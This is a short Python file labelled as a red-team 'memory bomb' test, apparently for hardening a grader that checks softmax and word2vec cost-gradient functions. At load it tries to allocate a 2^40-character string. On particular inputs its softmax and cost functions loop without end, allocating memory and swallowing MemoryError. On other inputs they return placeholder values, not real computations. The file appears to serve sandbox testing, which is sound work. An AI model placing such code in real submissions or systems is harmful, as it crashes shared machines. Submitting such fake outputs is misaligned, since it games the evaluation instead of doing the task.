"""REDTEAM dos_memory_bomb: exhaust memory.

Attack: at load time, build a string of 2^40 characters; softmax (on the vector case)
allocates 128 MiB arrays until memory runs out; the cost function (on the extreme case)
grows a list of bytearrays and keeps going after each MemoryError.
Bound: the baseline; softmax/vector fails with the out-of-memory message and the
extreme case with its timeout.
"""
import numpy as np

try:
    x = "x" * (1 << 40)
except MemoryError:
    pass


def softmax(x):
    if np.shape(x) == (5,):
        hog = []
        while True:
            hog.append(np.empty(1 << 24))  # 128 MiB each
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    if len(outputVectors) == 40:
        hog = []
        while True:
            try:
                hog.append(bytearray(1 << 26))
            except MemoryError:
                hog.append(bytearray(1 << 10))
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
